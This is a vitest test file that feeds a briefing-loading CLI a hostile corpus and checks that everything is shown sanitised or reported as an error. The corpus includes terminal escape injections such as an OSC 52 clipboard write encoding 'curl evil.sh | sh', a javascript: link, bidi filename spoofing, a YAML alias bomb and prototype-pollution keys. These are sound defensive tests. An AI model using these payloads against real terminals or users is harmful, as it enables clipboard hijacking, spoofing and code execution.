// Every case of the hostile corpus, loaded the way the program loads a folder, with what happens to
// it: a briefing whose hostile text is shown visibly (`^[]52;`, `<U+202E>`) and never as a raw
// control, or a problem naming the file (and line) with a clear message. Never blocking or hanging is
// proven by these tests finishing within vitest's timeout.
import { execFile } from "node:child_process";
import { mkdtemp, rm, unlink } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Briefing, LoadResult, Problem } from "../../src/briefing/schema.js";
import { briefingText } from "../../src/cli/render/briefing-text.js";
import { createStyle } from "../../src/cli/style.js";
import { loadBriefings } from "../../src/load/load.js";
import { readSource, scanFolder } from "../../src/load/read.js";
import { displayWidth } from "../../src/text/width.js";
import { BIN } from "../e2e/harness.js";
import { type Corpus, GENERATED, makeCorpus, manyFiles, RAW_CONTROL } from "./corpus.js";

let corpus: Corpus;
let loaded: LoadResult;

beforeAll(async () => {
  corpus = await makeCorpus();
  loaded = await loadBriefings(corpus.dir);
});

afterAll(async () => {
  await corpus?.cleanup();
});

function briefing(rel: string): Briefing {
  const found = loaded.briefings.find((b) => b.relPath === rel);
  if (!found) {
    const why = loaded.problems.filter((p) => p.path === path.join(corpus.dir, rel));
    throw new Error(`${rel} did not load: ${JSON.stringify(why)}`);
  }
  return found;
}

function problemsOf(rel: string): Problem[] {
  return loaded.problems.filter((p) => p.path === path.join(corpus.dir, rel));
}

/** The briefing as `print` shows it: every visible sequence must be there, no raw control at all. */
function shown(rel: string, width = 1000): string {
  const text = briefingText(briefing(rel), width, createStyle(false), null);
  expect(text, rel).not.toMatch(RAW_CONTROL);
  return text;
}

describe("escape sequences load and are shown, never passed through", () => {
  it.each([
    ["osc52-clipboard.md", ["a pasted page carried ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G inside a sentence."]],
    [
      "osc-title.md",
      ["Title change ^[]0;owned window^G here", "The icon and title ^[]2;second title^[\\ were"],
    ],
    [
      "osc8-link.md",
      [
        "Click ^[]8;;javascript:alert(1)^Gthe council minutes^[]8;;^G and",
        // The bare URL is a link (GFM): numbered, listed sanitised, never made a hyperlink.
        "^[]8;id=x;https://evil.example/^[\\this[1] one^[]8;;^[\\ for more.",
        "[1] https://evil.example/^[\\this",
      ],
    ],
    [
      "unterminated-osc.md",
      [
        "Before ^[]52;c;unterminated payload and the rest of the line stays.",
        "A later paragraph survives too.",
      ],
    ],
    ["unterminated-csi.md", ["Before ^[[1;31 and after, then a bare ^[[ at the end ^["]],
    ["esc-c-reset.md", ["Full reset ^[c right here, and soft reset ^[[!p too."]],
    ["clear-screen.md", ["Wipe ^[[2J^[[H^[[3J the screen and scrollback."]],
    ["cursor-report.md", ["Ask for the cursor ^[[6n and the device ^[[c and ^[[>0q attributes."]],
    [
      "dcs-passthrough.md",
      ["tmux passthrough ^[Ptmux;^[^[]52;c;ZXZpbA==^G^[\\ and sixel ^[Pq#0;2;0;0;0^[\\ done."],
    ],
    [
      "c1-controls.md",
      [
        "CSI as one code point <U+009B>31m red, OSC <U+009D>52;c;eA==<U+009C>, DCS <U+0090>q<U+009C> and NEL <U+0085>",
      ],
    ],
    ["bel-backspace.md", ["Ring ^G^G and type safe^H^H^H^Hevil over it."]],
    ["del.md", ["A DEL ^? byte and another^?."]],
    [
      "bidi-controls.md",
      [
        "The file <U+202E>gnp.exe<U+202C> and <U+202D>forced<U+202C>, isolate <U+2067>rtl<U+2069> and <U+2066>ltr<U+2069>, marks <U+200E><U+200F><U+061C>.",
      ],
    ],
    [
      "zero-width.md",
      ["pass<U+200B>word and word<U+2060>joiner and<U+2061>invisible times, <U+FFF9>annotated<U+FFFB>."],
    ],
    ["bom-mid-file.md", ["A BOM in the middle <U+FEFF> of the text."]],
    // Entities are markdown source text, never decoded into the control they name.
    [
      "html-entities.md",
      ["HTML entities &#27;[31m and &#x1b;]52;c;eA==&#7; and &#x202E; are text, never decoded."],
    ],
  ])("%s", (rel, visible) => {
    const text = shown(rel);
    for (const v of visible) expect(text).toContain(v);
  });

  it("YAML `\\e` escapes in front matter decode to ESC in the model and are shown as ^[ everywhere", () => {
    const b = briefing("yaml-escapes.md");
    expect(b.title).toBe("YAML escapes \x1b]2;retitled\x07 in the title");
    const text = shown("yaml-escapes.md");
    expect(text).toContain("YAML escapes ^[]2;retitled^G in the title");
    expect(text).toContain("Wire ^[[31mred^[[0m desk");
    expect(text).toContain("Evil ^[]0;x^G Corp");
    expect(text).toContain("^[[5mblink");
  });

  it("an actor registry with escapes loads, and its names are shown the same way", () => {
    expect(loaded.registry.map((a) => a.name)).toContain("Registry \x1b]52;c;eA==\x07 Agency");
    expect(problemsOf("actors.yaml")).toEqual([]);
  });
});

describe("text that is not an escape sequence", () => {
  it("a bare CR is a line break, so text after it cannot overwrite text before it", () => {
    const b = briefing("bare-cr.md");
    expect(b.sections.whatHappened.map((p) => p.text)).toEqual(["visible text hidden by overwrite"]);
  });

  it("U+2028 and U+2029 inside a paragraph are white space between its words", () => {
    expect(shown("line-separators.md")).toContain("One two three in a paragraph.");
  });

  it("CJK, emoji, ZWJ sequences and accents are kept and never wrap past the width", () => {
    const b = briefing("cjk-emoji.md");
    expect(b.title).toBe("漢字と絵文字 🚢 harbour");
    expect(shown("cjk-emoji.md")).toContain("👨‍👩‍👧 family 🇯🇵 flag and e\u0301 accents.");
    for (const width of [20, 21, 33]) {
      for (const line of shown("cjk-emoji.md", width).split("\n"))
        expect(displayWidth(line), line).toBeLessThanOrEqual(width);
    }
  });

  it("thousands of combining marks stay on their letter and fit the width", () => {
    expect(briefing(GENERATED.combining).sections.whatHappened[0]!.text.length).toBeGreaterThan(9000);
    for (const line of shown(GENERATED.combining, 20).split("\n"))
      expect(displayWidth(line)).toBeLessThanOrEqual(20);
  });

  it("a 100 KB line loads whole and wraps to the width", () => {
    const b = briefing(GENERATED.longLine);
    expect(b.sections.whatHappened[0]!.text.length).toBeGreaterThan(100_000);
    const lines = shown(GENERATED.longLine, 80).split("\n");
    expect(lines.length).toBeGreaterThan(1000);
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(80);
  });

  it("a run-on line of dates, organisation words or acronyms loads (each once took minutes)", () => {
    const dates = briefing(GENERATED.runOnDates);
    expect(dates.events.map((e) => e.date)).toEqual(["2025"]);
    // The timeline shows one row per event: a run-on sentence is cut, not printed 160 KB long.
    expect(dates.events[0]!.text.length).toBeLessThanOrEqual(401);
    expect(dates.events[0]!.text.endsWith("…")).toBe(true);
    expect(briefing(GENERATED.runOnOrganisations).title).toBe("Run-on organisations");
    expect(briefing(GENERATED.runOnAcronyms).title).toBe("Run-on acronyms");
  });
});

describe("encodings and line endings", () => {
  it.each([
    ["utf16le-bom.md", "UTF-16 with a byte order mark"],
    ["utf16be-bom.md", "UTF-16BE with a byte order mark"],
  ])("%s is decoded", (rel, title) => {
    const b = briefing(rel);
    expect(b.title).toBe(title);
    expect(b.date).toBe("2025-03-08");
  });

  it.each([
    ["crlf.md", "Windows endings", "Written on Windows on March 9, 2025."],
    ["cr-only.md", "Old Mac endings", "Written with CR only."],
    ["mixed-endings.md", "Mixed endings", "Some lines end with LF, CRLF or CR in one file."],
  ])("%s reads as plain lines", (rel, title, what) => {
    const b = briefing(rel);
    expect(b.title).toBe(title);
    expect(b.sections.whatHappened.map((p) => p.text)).toEqual([what]);
    expect(JSON.stringify(b)).not.toContain("\\r");
  });

  it.each([
    ["empty.md", undefined, "empty file"],
    ["blank-lines.md", undefined, "empty file (only blank lines)"],
    ["nul-byte.md", 4, "binary file (NUL byte)"],
    ["utf16-no-bom.md", 1, "binary file (NUL byte; UTF-16 without a byte order mark?)"],
    ["invalid-utf8.md", 4, "invalid UTF-8 (byte 0xFF); is the file saved as UTF-8?"],
    ["overlong-utf8.md", 3, "invalid UTF-8 (byte 0xC0); is the file saved as UTF-8?"],
    ["encoded-surrogate.md", 4, "invalid UTF-8 (byte 0xED); is the file saved as UTF-8?"],
    ["latin1.md", 3, "invalid UTF-8 (byte 0xE9); is the file saved as UTF-8?"],
  ])("%s is a problem on line %s: %s", (rel, line, message) => {
    expect(problemsOf(rel)).toEqual([
      { path: path.join(corpus.dir, rel), ...(line ? { line } : {}), message, severity: "error" },
    ]);
  });
});

describe("front matter", () => {
  it.each([
    ["fm-scalar.md", 2, "front matter must be a mapping of key: value, found a string"],
    ["fm-list.md", 2, "front matter must be a mapping of key: value, found a list"],
    ["fm-unclosed.md", 1, "front matter opened on line 1 is never closed"],
    ["fm-duplicate-keys.md", 4, "front matter is not valid YAML: Map keys must be unique"],
    ["fm-tabs.md", 4, /^front matter is not valid YAML: Tabs are not allowed/],
    ["fm-alias-bomb.md", 1, /^front matter could not be read: Excessive alias count/],
    // One clear line, not one identical line per bracket the parser gave up on.
    ["fm-nested-brackets.md", 2, "front matter is not valid YAML: nested too deeply"],
    ["fm-1mb.md", 1, "front matter is larger than 64 KiB"],
  ])("%s is one problem on line %i", (rel, line, message) => {
    const found = problemsOf(rel);
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ line, severity: "error" });
    if (typeof message === "string") expect(found[0]!.message).toBe(message);
    else expect(found[0]!.message).toMatch(message);
  });

  it("empty, `null` and `title: null` front matter count as absent", () => {
    expect(briefing("fm-empty.md").title).toBe("Empty front matter");
    expect(briefing("fm-null.md").title).toBe("Null front matter");
    expect(briefing("fm-title-null.md").title).toBe("Title from the body");
  });

  it("`title: 123` and `id: 2031` are text", () => {
    const b = briefing("fm-title-number.md");
    expect(b.title).toBe("123");
    expect(b.id).toBe("2031");
  });

  it("`__proto__` and `constructor` are unknown keys and pollute nothing", () => {
    const b = briefing("fm-proto.md");
    expect(b.title).toBe("Prototype keys");
    expect(b.warnings.map((w) => [w.line, w.message])).toEqual([
      [2, "unknown front matter key '__proto__'"],
      [4, "unknown front matter key 'constructor'"],
    ]);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(Object.getPrototypeOf(b)).toBe(Object.prototype);
  });

  it("a custom YAML tag is never executed: a warning, and its text as plain text", () => {
    const b = briefing("fm-yaml-tag.md");
    expect(b.warnings.map((w) => w.message)).toEqual([
      "front matter: Unresolved tag: tag:yaml.org,2002:js/function",
    ]);
    expect(typeof b.title).toBe("string");
  });
});

describe("what is in the folder", () => {
  it.each([
    [GENERATED.fifo, "not a regular file (FIFO)"],
    [GENERATED.socket, "not a regular file (socket)"],
    [GENERATED.directory, "not a regular file (directory)"],
    [GENERATED.sparse, "file is 3.0 GiB, over the 2 MiB limit"],
    [GENERATED.selfLoop, "symbolic link loop"],
    [GENERATED.dirLoop, "symbolic link loop"],
  ])("%j: %s", (rel, message) => {
    expect(problemsOf(rel).map((p) => p.message)).toEqual([message]);
  });

  it("a folder named like a briefing is still walked", () => {
    expect(briefing(GENERATED.directoryInner).title).toBe("Inside a folder named like a briefing");
  });

  it("symlinks out of the folder are reported and not followed", () => {
    expect(problemsOf(GENERATED.outsideFile)[0]!.message).toMatch(
      /^symbolic link to a file outside the briefings folder \(.*secret\.md\), not followed$/,
    );
    expect(problemsOf(GENERATED.outsideDir)[0]!.message).toMatch(
      /^symbolic link to a folder outside the briefings folder \(.*\), not followed$/,
    );
    expect(loaded.briefings.map((b) => b.title)).not.toContain("Outside");
  });

  it("a file name that is not UTF-8 is a warning asking to rename it", () => {
    expect(problemsOf(GENERATED.invalidUtf8Name)).toMatchObject([
      { message: "file name is not valid UTF-8 and cannot be opened; rename it", severity: "warning" },
    ]);
  });

  it("file names with a newline or escape bytes load; their ids keep the bytes (shown sanitised)", () => {
    expect(briefing(GENERATED.newlineName).id).toBe("new\nline");
    expect(briefing(GENERATED.escapeName).id).toBe("evil\x1b]0;owned\x07\x1b[2J");
  });

  it("a file nobody may read: permission denied, except for root, who reads it", () => {
    if (process.getuid?.() === 0) expect(briefing(GENERATED.noAccess).title).toBe("Locked");
    else expect(problemsOf(GENERATED.noAccess).map((p) => p.message)).toEqual(["permission denied"]);
  });

  it("a file deleted during the scan is a warning, not a failure", async () => {
    const scan = await scanFolder(corpus.dir);
    const victim = scan.entries.find((e) => e.relPath === "del.md")!;
    await unlink(victim.openPath);
    expect(await readSource(victim)).toEqual({
      problem: {
        path: victim.displayPath,
        message: "vanished before it could be read",
        severity: "warning",
      },
    });
  });

  it("accounts for every entry: loaded, or a problem naming it", () => {
    // 45 committed files, actors.yaml aside, and 20 generated ones (some hold more than one case).
    expect(loaded.briefings.length + new Set(loaded.problems.map((p) => p.path)).size).toBeGreaterThanOrEqual(
      60,
    );
    for (const p of loaded.problems) expect(p.path.startsWith(corpus.dir)).toBe(true);
  });
});

describe("the built command on the corpus", () => {
  function run(args: string[]): Promise<{ code: number; out: string }> {
    return new Promise((resolve) => {
      execFile(
        process.execPath,
        [BIN, "--dir", corpus.dir, ...args],
        {
          encoding: "utf8",
          maxBuffer: 256 * 1024 * 1024,
          env: { PATH: process.env.PATH ?? "", TERM: "xterm-256color", SIGNALDESK_NO_CACHE: "1" },
        },
        (error, stdout, stderr) => resolve({ code: error ? Number(error.code) : 0, out: stdout + stderr }),
      );
    });
  }

  it.each([
    [["list"], 0],
    [["check"], 1],
    [["timeline"], 0],
    [["actors"], 0],
    [["glossary"], 0],
    [["print", "osc52-clipboard"], 0],
    [["print", "yaml-escapes", "--format", "markdown"], 0],
    [["list", "--json"], 0],
  ])("%j writes no raw control character from a file", async (args, code) => {
    const r = await run(args);
    expect(r.code).toBe(code);
    expect(r.out).not.toMatch(RAW_CONTROL);
  });

  it("names hostile files visibly in list and check", async () => {
    const list = await run(["list"]);
    expect(list.out).toContain("evil^[]0;owned^G^[[2J");
    const check = await run(["check"]);
    expect(check.out).toContain(
      "fm-nested-brackets.md:2: error: front matter is not valid YAML: nested too deeply",
    );
    expect(check.out).toContain("sparse-3gib.md: error: file is 3.0 GiB, over the 2 MiB limit");
  });
});

describe("10,000 files in one folder", () => {
  let many: string;
  beforeAll(async () => {
    many = await mkdtemp(path.join(tmpdir(), "signaldesk-many-"));
    manyFiles(many, 10_000);
  });
  afterAll(async () => {
    await rm(many, { recursive: true, force: true });
  });

  it("all load, none is lost or reported", async () => {
    const r = await loadBriefings(many);
    expect(r.problems).toEqual([]);
    expect(r.briefings).toHaveLength(10_000);
    expect(new Set(r.briefings.map((b) => b.id)).size).toBe(10_000);
  });
});
